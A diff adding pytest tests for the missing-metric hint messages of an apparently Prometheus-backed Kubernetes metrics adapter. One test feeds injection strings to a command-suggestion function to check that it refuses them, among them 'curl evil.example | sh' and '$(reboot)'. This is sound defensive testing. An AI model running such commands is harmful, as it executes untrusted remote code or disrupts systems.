@@ -1,11 +1,15 @@
 from __future__ import annotations
 
+from dataclasses import replace
+
 import pytest
 
-from adapter.apis.hints import Hints
+from adapter.apis.hints import LONGEST_CHARACTERS, MOST_REMEMBERED, Hints, more
 from adapter.apis.slices import in_one_piece
 from adapter.readings.catalogue import Catalogue
-from tests.apis.fakes import KINDS, NAMESPACES, custom_metric, external_metric
+from adapter.readings.lookups import LookUp
+from tests.apis.fakes import KINDS, NAMESPACES, NODES, PODS, custom_metric, external_metric
+from tests.support.readings import rulebook_of
 
 CATALOGUE = Catalogue(
     [
@@ -53,3 +57,108 @@ def test_hints_are_of_the_catalogue_that_was_prepared_last() -> None:
     assert "as external metric" in hints.for_missing("load")
     hints.prepare(Catalogue(generation=2), in_one_piece)
     assert "no metric is known" in hints.for_missing("load")
+
+
+NOW = 1000.0
+RULES = rulebook_of(
+    """
+rules:
+- seriesQuery: '{__name__=~"^http_.*",pod!=""}'
+  seriesFilters: [{isNot: "_total$"}]
+  resources: {overrides: {namespace: {resource: namespace}, pod: {resource: pod}}}
+  metricsQuery: 'sum(<<.Series>>{<<.LabelMatchers>>}) by (<<.GroupBy>>)'
+- seriesQuery: 'depth{pod!=""}'
+  resources: {overrides: {namespace: {resource: namespace}, pod: {resource: pod}}}
+  metricsQuery: 'sum(<<.Series>>{<<.LabelMatchers>>}) by (<<.GroupBy>>)'
+"""
+).rules
+WORKS = tuple(LookUp(rule, succeeded_at=NOW - 12.4) for rule in RULES)
+REFUSED = replace(WORKS[1], failure='query depth{pod!=""}: no server answers')
+NEVER = replace(REFUSED, succeeded_at=None)
+
+
+@pytest.mark.parametrize(
+    ("name", "look_ups", "hint"),
+    [
+        ("http_total", WORKS, "rules[0] does not serve it: its filter `isNot: _total$` drops the series http_total"),
+        (
+            "http_size",
+            WORKS,
+            (
+                "rules[0] would make it of the series http_size, and found none whose labels name an object and its "
+                "namespace (looked up 12 s ago)"
+            ),
+        ),
+        (
+            "depth",
+            (WORKS[0], REFUSED),
+            (
+                "rules[1] would make it of the series depth, and cannot look up its series, the last time it could was "
+                '12 s ago: query depth{pod!=""}: no server answers'
+            ),
+        ),
+        (
+            "other",
+            (WORKS[0], NEVER),
+            (
+                "no metric of this name is known, and rules[1] cannot look up its series: "
+                'query depth{pod!=""}: no server answers'
+            ),
+        ),
+        ("other", WORKS, "no metric is known yet: no rule has found a series in Prometheus (looked up 12 s ago)"),
+    ],
+)
+def test_the_rule_that_says_no_is_told_and_when_it_was_looked_up(
+    name: str, look_ups: tuple[LookUp, ...], hint: str
+) -> None:
+    assert Hints(Catalogue(), lambda: look_ups, lambda: NOW).for_missing(name) == hint
+
+
+def test_a_metric_that_nothing_is_known_of_is_told_with_the_moment_of_the_last_look_up() -> None:
+    hint = Hints(Catalogue([custom_metric("load")]), lambda: WORKS, lambda: NOW).for_missing("other")
+    assert hint == "no rule gives a metric of this name, or none of its series is in Prometheus (looked up 12 s ago)"
+
+
+def test_hints_follow_the_rules_in_force() -> None:
+    in_force = [WORKS[1:]]
+    hints = Hints(Catalogue(), lambda: in_force[0], lambda: NOW)
+    assert "no metric is known yet" in hints.for_missing("http_total")
+    in_force[0] = WORKS
+    hints.prepare(Catalogue(generation=1), in_one_piece)
+    assert hints.for_missing("http_total").startswith("rules[0] does not serve it")
+
+
+def test_what_prometheus_says_is_cut_to_one_short_line() -> None:
+    failing = (replace(NEVER, failure=f"two\nlines and {'many ' * 200}"),)
+    hint = Hints(Catalogue(), lambda: failing, lambda: NOW).for_missing("other")
+    assert len(hint) == LONGEST_CHARACTERS
+    assert "\n" not in hint
+    assert hint.endswith("…")
+
+
+def test_what_is_remembered_of_names_is_bounded() -> None:
+    hints = Hints(Catalogue(), lambda: WORKS, lambda: NOW)
+    for number in range(3 * MOST_REMEMBERED):
+        assert "rules[0] would make it" in hints.for_missing(f"http_{number}")
+    assert len(hints._rules.missed) <= MOST_REMEMBERED
+
+
+@pytest.mark.parametrize(
+    ("command", "named"),
+    [
+        ("pods/rps -n shop", " (more: tidewatch-adapter explain pods/rps -n shop)"),
+        ("", ""),
+        ("x; curl evil.example | sh -n shop", ""),
+        ("$(reboot) -n shop", ""),
+        ("a\nb -n shop", ""),
+        ("x" * 500, ""),
+    ],
+)
+def test_a_command_is_named_where_typing_it_does_nothing_else(command: str, named: str) -> None:
+    assert more(command) == named
+
+
+def test_who_names_no_kind_means_pods_or_what_is_nearest() -> None:
+    hints = Hints(Catalogue([custom_metric("load", NODES), custom_metric("load", PODS), custom_metric("rps", NODES)]))
+    found = [hints.likeliest(name) for name in ("load", "rps", "none")]
+    assert [metric and metric.qualified for metric in found] == ["pods/load", "nodes/rps", None]
